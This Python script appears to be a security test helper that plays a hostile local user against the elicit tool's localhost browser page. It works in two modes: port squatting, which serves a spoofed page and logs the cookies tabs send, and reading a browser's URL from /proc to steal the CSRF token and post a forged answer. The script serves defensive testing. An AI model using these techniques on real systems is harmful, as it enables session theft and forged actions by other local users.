#!/usr/bin/env python3
"""Another local user against elicit's browser page (tests/it/page_hostile.rs
runs this as `nobody` with setpriv). Standard library only; 127.0.0.1 only.
Prints one JSON object per line on stdout: what it managed.

  squat PORT SECONDS
      Tries to bind 127.0.0.1:PORT for SECONDS (elicit's page port, once
      elicit no longer needs it). If it can: answers every request as elicit
      would, with a form of its own, and reports each request it got (the
      path and cookie a tab sends it).
  argv PID
      Reads the page address from process PID's command line (a browser
      elicit opened), loads it like a browser (one redirect, its cookie),
      takes the CSRF token from the page and answers elicitation 1 with
      name=PWNED-BY-OTHER-USER.
"""
import json
import re
import socket
import sys
import time

PWNED = "PWNED-BY-OTHER-USER"


def say(**kv):
    print(json.dumps(kv), flush=True)


def squat(port, seconds):
    until = time.monotonic() + seconds
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    # As any server would: a port whose last connections are in TIME_WAIT
    # can be bound again (never one that is still listening).
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    while True:
        try:
            s.bind(("127.0.0.1", port))
            break
        except OSError as e:
            if time.monotonic() >= until:
                say(bound=False, error=e.strerror)
                return
            time.sleep(0.005)
    s.listen(16)
    say(bound=True)
    s.settimeout(0.2)
    page = (
        "<!DOCTYPE html><html><head><title>elicit: 1 request waiting</title></head>"
        "<body data-version=\"999999\"><div id=\"pending\">"
        "<section class=\"elicitation\" id=\"e99\" data-id=\"99\"><h2>" + PWNED + "</h2>"
        "<form method=\"post\" action=\"answer/99\"><input name=\"name\" value=\"" + PWNED + "\">"
        "<button name=\"action\" value=\"accept\">Send</button></form></section>"
        "</div></body></html>"
    )
    while time.monotonic() < until:
        try:
            c, _ = s.accept()
        except socket.timeout:
            continue
        c.settimeout(2)
        head = b""
        try:
            while b"\r\n\r\n" not in head and len(head) < 65536:
                chunk = c.recv(4096)
                if not chunk:
                    break
                head += chunk
        except OSError:
            pass
        text = head.decode("latin-1")
        line = text.split("\r\n", 1)[0]
        cookie = re.search(r"(?im)^cookie:\s*(.*)$", text)
        say(request=line, cookie=cookie.group(1).strip() if cookie else None)
        if " /" in line and "/events" in line.split(" ")[1]:
            body, kind = json.dumps({"version": 999999, "pending": 1}), "application/json"
        else:
            body, kind = page, "text/html"
        data = body.encode()
        try:
            c.sendall(
                b"HTTP/1.1 200 OK\r\nContent-Type: " + kind.encode()
                + b"\r\nContent-Length: " + str(len(data)).encode()
                + b"\r\nConnection: close\r\n\r\n" + data
            )
        except OSError:
            pass
        c.close()
    say(done=True)


def request(port, method, path, headers, body=b""):
    c = socket.create_connection(("127.0.0.1", port), timeout=10)
    head = f"{method} {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n"
    for k, v in headers.items():
        head += f"{k}: {v}\r\n"
    head += f"Content-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    c.sendall(head.encode() + body)
    out = b""
    while True:
        chunk = c.recv(65536)
        if not chunk:
            break
        out += chunk
    c.close()
    text = out.decode("utf-8", "replace")
    status = int(text.split(" ", 2)[1]) if text.startswith("HTTP/") else 0
    return status, text


def argv(pid):
    with open(f"/proc/{pid}/cmdline", "rb") as f:
        args = f.read().split(b"\0")
    urls = [a.decode() for a in args if a.startswith(b"http://127.0.0.1:")]
    if not urls:
        say(url=None)
        return
    url = urls[-1]
    m = re.match(r"http://127\.0\.0\.1:(\d+)(/.*)", url)
    port, path = int(m.group(1)), m.group(2)
    status, text = request(port, "GET", path, {})
    say(url=url, status=status)
    cookie = ""
    if status in (301, 302, 303, 307):
        loc = re.search(r"(?im)^location:\s*(\S+)", text)
        set_cookie = re.search(r"(?im)^set-cookie:\s*([^;\r\n]+)", text)
        cookie = set_cookie.group(1) if set_cookie else ""
        path = loc.group(1) if loc else path
        status, text = request(port, "GET", path, {"Cookie": cookie} if cookie else {})
        say(followed=path, status=status)
    csrf = re.search(r'name="csrf" value="([0-9a-f]+)"', text)
    if not csrf:
        say(csrf=None)
        return
    form = f"csrf={csrf.group(1)}&name={PWNED}&action=accept".encode()
    headers = {
        "Origin": f"http://127.0.0.1:{port}",
        "Content-Type": "application/x-www-form-urlencoded",
    }
    if cookie:
        headers["Cookie"] = cookie
    status, _ = request(port, "POST", path + "answer/1", headers, form)
    say(answered=status)


if __name__ == "__main__":
    if sys.argv[1] == "squat":
        squat(int(sys.argv[2]), float(sys.argv[3]))
    elif sys.argv[1] == "argv":
        argv(int(sys.argv[2]))
